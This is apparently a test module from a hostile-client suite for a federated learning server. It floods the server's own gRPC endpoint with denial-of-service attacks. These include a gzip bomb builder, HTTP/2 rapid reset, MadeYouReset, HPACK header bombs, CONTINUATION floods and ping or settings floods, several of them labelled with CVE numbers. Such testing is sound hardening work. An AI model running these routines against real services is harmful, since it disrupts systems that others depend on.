"""Attacks that say much: reports, refused calls, cancelled calls, long texts."""

from __future__ import annotations

import itertools
import struct
import time
import zlib
from collections.abc import Callable, Iterator
from threading import Thread

from fedcervix.transport import identity
from fedcervix.wire import federation_pb2 as wire
from tests.e2e.hostile.field.attacker import (
    ATTACH,
    COMMAND,
    ENROLL,
    OFFER,
    OVERVIEW,
    PACKED,
    REPORT,
    WIRE_VERSION,
    Attacker,
)
from tests.e2e.hostile.field.frames import (
    FRAME_BYTES_MAX,
    WINDOW_FIRST,
    Flag,
    Headers,
    Kind,
    Line,
    block,
    frame,
    message,
    request,
    text,
)

UNDER_WAY = 40
"""calls that are begun before the first one is answered"""
TEXT_CHARS_MAX = 600
LONG_CHARS = 3_500_000
Call = tuple[str, bytes]


def task(run: str, number: int = 1) -> wire.Task:
    """Return a task that may be the present one."""
    return wire.Task(run=run, kind=wire.Task.KIND_TRAIN, round=number, base="0" * 64)


def flood(me: Attacker, calls: Callable[[str], Iterator[Call]], headers: Headers | None = None) -> None:
    """Make calls as fast as they are answered, so many at once. `calls` is given the run's name."""

    def work(line: Line) -> None:
        welcome = me.welcome(line)
        under_way: list[int] = []
        for path, data in calls(welcome.run if welcome else "20300101-000000-csfssl-00000000"):
            if not me.goes_on():
                return
            under_way.append(line.call(path, data, me.who if headers is None else headers))
            me.counts["calls"] += 1
            while len(under_way) >= UNDER_WAY:
                line.pump(10.0)
                done = [stream for stream in under_way if stream in line.ended]
                me.counts["answered"] += sum(bool(line.got.pop(stream, b"")) for stream in done)
                line.ended.difference_update(done)
                under_way = [stream for stream in under_way if stream not in done]

    me.persist(work)


def report(**what: object) -> Call:
    """Return a report's call."""
    return REPORT, wire.FromSite(at=time.time(), **what).SerializeToString()  # type: ignore[arg-type]


def failures(me: Attacker) -> None:
    """Report failures whose texts are as long as may be, no two alike; each is in the journal and in the log."""

    def calls(_run: str) -> Iterator[Call]:
        for number in itertools.count():
            words = f"{number} " + "\U0001f4a5" * (TEXT_CHARS_MAX - 20)
            incident = words[: TEXT_CHARS_MAX if number % 2 else 40]  # a later release takes short ones alone
            failure = wire.Failure(stage=words, hint=words, incident=incident, kind="DataError", goes_on=True)
            yield report(failure=failure)

    flood(me, calls)


def progress(me: Attacker) -> None:
    """Say how far the work is, without end."""

    def calls(run: str) -> Iterator[Call]:
        for number in itertools.count():
            words = {"stage": "training", "done": number, "of": 2**40, "unit": "steps"}
            yield report(progress=wire.Progress(task=task(run), loss=1.0, images_per_s=1.0, **words))  # type: ignore[arg-type]

    flood(me, calls)


def signs_of_life(me: Attacker) -> None:
    """Say "here", without end."""
    here = report(here=wire.Here())
    flood(me, lambda _run: itertools.repeat(here))


def flips(me: Attacker) -> None:
    """Accept the plan and refuse it, in turns: each is a change."""

    def calls(run: str) -> Iterator[Call]:
        for number in itertools.count():
            yield report(refusal=wire.Refusal(run=run, reason=f"{number} " + "\U0001f4a5" * (TEXT_CHARS_MAX - 20)))
            yield report(ready=wire.Ready(run=run, plan_digest=me.plan_digest))

    flood(me, calls)


def offers(me: Attacker) -> None:
    """Offer one model after the other, and send none."""

    def calls(_run: str) -> Iterator[Call]:
        while True:
            digest = f"{me.chance.getrandbits(256):064x}"
            yield OFFER, wire.OfferRequest(digest=digest, size_bytes=400_000).SerializeToString()

    flood(me, calls)


def refused_calls(me: Attacker) -> None:
    """Make calls that this certificate may not make: each refusal costs a line of the log."""

    def calls(_run: str) -> Iterator[Call]:
        while True:
            yield OVERVIEW, wire.OverviewRequest().SerializeToString()
            yield COMMAND, wire.CommandRequest(stop=True).SerializeToString()
            yield ENROLL, wire.EnrollRequest(request_pem=b"-" * 8000).SerializeToString()
            yield PACKED, wire.PackedRequest(digest="0" * 64).SerializeToString()
            yield ATTACH, wire.AttachRequest(wire_version=99, software_version="\U0001f4a5" * 64).SerializeToString()

    flood(me, calls)


def enrolments(me: Attacker) -> None:
    """Ask for a certificate again and again, each time for another key."""
    who = identity.Identity("cervix", "site", "mallory")
    requests = [identity.request(identity.new_key(), who) for _ in range(20)]
    calls = itertools.cycle((ENROLL, wire.EnrollRequest(request_pem=pem).SerializeToString()) for pem in requests)
    flood(me, lambda _run: calls, headers=())


def tiny_deadlines(me: Attacker) -> None:
    """Make calls that are over before they have begun."""
    here = report(here=wire.Here())
    flood(me, lambda _run: itertools.repeat(here), headers=[*me.who, ("grpc-timeout", "1n")])


def other_processes(me: Attacker) -> None:
    """Attach as a new process of the agent each time, which succeeds the one before."""

    def calls(_run: str) -> Iterator[Call]:
        before = me.instance
        while True:
            now = f"{me.chance.getrandbits(128):032x}"
            asked = wire.AttachRequest(wire_version=WIRE_VERSION, instance=now, succeeds=[before])
            yield ATTACH, asked.SerializeToString()
            before = now

    flood(me, calls)


def attach_again(me: Attacker) -> None:
    """Attach again and again: each stream ends the one before it."""
    request = wire.AttachRequest(wire_version=WIRE_VERSION, instance=me.instance, software_version="x" * 64)
    attach = (ATTACH, request.SerializeToString())

    def work(line: Line) -> None:
        for number in itertools.count():
            if not me.goes_on():
                return
            stream = line.call(*attach)
            me.counts["calls"] += 1
            line.pump(0.0)
            if number % 2:
                line.reset(stream)
            if number % UNDER_WAY == 0:
                line.pump(0.05)

    me.persist(work)


def long_texts(me: Attacker) -> None:
    """Fill every text that a site may send, up to the size of a message."""
    long = "\x1b" * LONG_CHARS

    def calls(run: str) -> Iterator[Call]:
        wrong = wire.Task(run=long, kind=wire.Task.KIND_TRAIN, round=1, base="0" * 64)
        short = [chr(97 + number % 26) for number in range(LONG_CHARS // 3)]
        requests: list[tuple[str, bytes]] = [
            report(failure=wire.Failure(stage="s", hint=long)),
            report(refusal=wire.Refusal(run=run, reason=long)),
            report(refusal=wire.Refusal(run=long)),
            report(ready=wire.Ready(run=run, plan_digest=long)),
            report(progress=wire.Progress(task=wrong)),
            report(update=wire.Update(task=task(run), digest=long)),
            report(score=wire.Score(task=task(run), gauges={f"g{number}": 0.0 for number in range(200_000)})),
            (OFFER, wire.OfferRequest(digest=long, size_bytes=1).SerializeToString()),
            (PACKED, wire.PackedRequest(digest=long).SerializeToString()),
            (ATTACH, wire.AttachRequest(wire_version=2, instance="0" * 32, succeeds=short).SerializeToString()),
            (ATTACH, wire.AttachRequest(wire_version=2, software_version=long, instance=long).SerializeToString()),
            (ENROLL, wire.EnrollRequest(request_pem=b"x" * LONG_CHARS).SerializeToString()),
        ]
        yield from itertools.cycle(requests)

    flood(me, calls)


def bomb() -> bytes:
    """Return a gzip file of 3 MB that is 3 GB once it is unpacked: one piece, again and again."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    piece = deflate.compress(b"\0" * (16 << 20)) + deflate.flush(zlib.Z_FULL_FLUSH)
    return b"\x1f\x8b\x08" + b"\0" * 6 + b"\xff" + piece * 190 + b"\x03\0" + b"\0" * 8


def gzip_bombs(me: Attacker) -> None:
    """Send messages that are a thousand times larger once they are unpacked."""
    data = message(bomb(), compressed=True)
    headers = [*me.who, ("grpc-encoding", "gzip")]

    def work(line: Line) -> None:
        while me.goes_on():
            stream = line.open(REPORT, headers)
            line.write(stream, data, ends=True)
            line.answer(stream, timeout_s=10.0)
            me.counts["bombs"] += 1

    me.persist(work)


# --- frames -------------------------------------------------------------------------------------------------------

BATCH = 100
ADMITTED = 8
"""connections"""


def frames(me: Attacker, make: Callable[[Line], bytes], *, admitted: bool = False) -> None:
    """Send frames as fast as the line takes them; `admitted`: after a call that is let in."""

    def work(line: Line) -> None:
        if admitted:
            me.welcome(line)
        while me.goes_on():
            line.send(b"".join(make(line) for _ in range(BATCH)))
            me.counts["frames"] += BATCH
            line.pump(0.0)
            line.ended.clear()
            line.got.clear()

    me.persist(work)


def rapid_reset(me: Attacker) -> None:
    """Begin calls and cancel each at once (CVE-2023-44487)."""
    asked, look = request(ATTACH, me.who), message(wire.AttachRequest(wire_version=2, look=True).SerializeToString())

    def make(line: Line) -> bytes:
        stream = line.next_stream()
        return (
            frame(Kind.HEADERS, Flag.END_HEADERS, stream, asked)
            + frame(Kind.DATA, Flag.END_STREAM, stream, look)
            + frame(Kind.RST_STREAM, Flag.NONE, stream, struct.pack(">I", 8))
        )

    frames(me, make)


def rapid_reset_on_many(me: Attacker) -> None:
    """Begin calls and cancel each at once, on more connections than a certificate may have."""
    _all([Thread(target=rapid_reset, args=(me,)) for _ in range(3 * ADMITTED)])


def made_you_reset(me: Attacker) -> None:
    """Begin calls and make the other side cancel them, by a window that is too large (CVE-2025-8671)."""
    asked = request(REPORT, me.who)

    def make(line: Line) -> bytes:
        stream = line.next_stream()
        too_much = struct.pack(">I", 2**31 - 1)
        return frame(Kind.HEADERS, Flag.END_HEADERS, stream, asked) + 2 * frame(
            Kind.WINDOW_UPDATE, Flag.NONE, stream, too_much
        )

    frames(me, make)


def pings(me: Attacker) -> None:
    """Send pings without end."""
    frames(me, lambda _line: frame(Kind.PING, Flag.NONE, 0, b"\0" * 8))


def pings_after_a_call(me: Attacker) -> None:
    """Make a call on each of eight connections, then send pings without end."""
    frame_after_a_call(me, frame(Kind.PING, Flag.NONE, 0, b"\0" * 8))


def settings_after_a_call(me: Attacker) -> None:
    """Make a call on each of eight connections, then change the settings without end."""
    frame_after_a_call(me, frame(Kind.SETTINGS, Flag.NONE, 0, struct.pack(">HI", 4, WINDOW_FIRST)))


def frame_after_a_call(me: Attacker, one: bytes) -> None:
    """Send one frame again and again on connections on which a call was admitted."""
    _all([Thread(target=frames, args=(me, lambda _: one), kwargs={"admitted": True}) for _ in range(ADMITTED)])


def _all(threads: list[Thread]) -> None:
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def settings(me: Attacker) -> None:
    """Change the settings without end."""
    frames(me, lambda _line: frame(Kind.SETTINGS, Flag.NONE, 0, struct.pack(">HI", 4, WINDOW_FIRST)))


def priorities(me: Attacker) -> None:
    """Change the priority of streams without end."""
    frames(me, lambda line: frame(Kind.PRIORITY, Flag.NONE, line.next_stream(), b"\0" * 5))


def window_updates(me: Attacker) -> None:
    """Open the window by a byte, without end."""
    frames(me, lambda _line: frame(Kind.WINDOW_UPDATE, Flag.NONE, 0, struct.pack(">I", 1)))


def garbage(me: Attacker) -> None:
    """Send frames of any kind, on any stream, with any payload."""

    def make(line: Line) -> bytes:
        size, kind = me.chance.randrange(40), me.chance.randrange(12)
        data = struct.pack(">I", size)[1:] + struct.pack(">BBI", kind, me.chance.randrange(256), me.chance.randrange(9))
        return data + me.chance.randbytes(size)

    frames(me, make)


def header_bombs(me: Attacker) -> None:
    """Send one long header once and refer to it thousands of times (CVE-2016-6581)."""
    long = b"\x40" + text("x") + text("y" * 3900)
    first = block([(":method", "POST"), (":scheme", "https"), (":path", REPORT), (":authority", "localhost")])

    def make(line: Line) -> bytes:
        stream = line.next_stream()
        bomb = first + long + b"\xbe" * 10_000
        return frame(Kind.HEADERS, Flag.END_HEADERS, stream, bomb[:FRAME_BYTES_MAX])

    frames(me, make)


def empty_frames(me: Attacker) -> None:
    """Send a body of empty frames."""

    def work(line: Line) -> None:
        stream = line.open(REPORT, me.who)
        while me.goes_on() and stream not in line.ended:
            line.send(frame(Kind.DATA, Flag.NONE, stream) * BATCH)
            me.counts["frames"] += BATCH
            line.pump(0.0)

    me.persist(work)


def endless_headers(me: Attacker) -> None:
    """Send one header block that goes on and on (CONTINUATION)."""
    more = frame(Kind.CONTINUATION, Flag.NONE, 1, request(REPORT, [("x", "y" * 15_000)])[:FRAME_BYTES_MAX])

    def work(line: Line) -> None:
        line.send(frame(Kind.HEADERS, Flag.NONE, line.next_stream(), request(REPORT, me.who)))
        while me.goes_on():
            line.send(more)
            me.counts["frames"] += 1
            line.pump(0.0)

    me.persist(work)
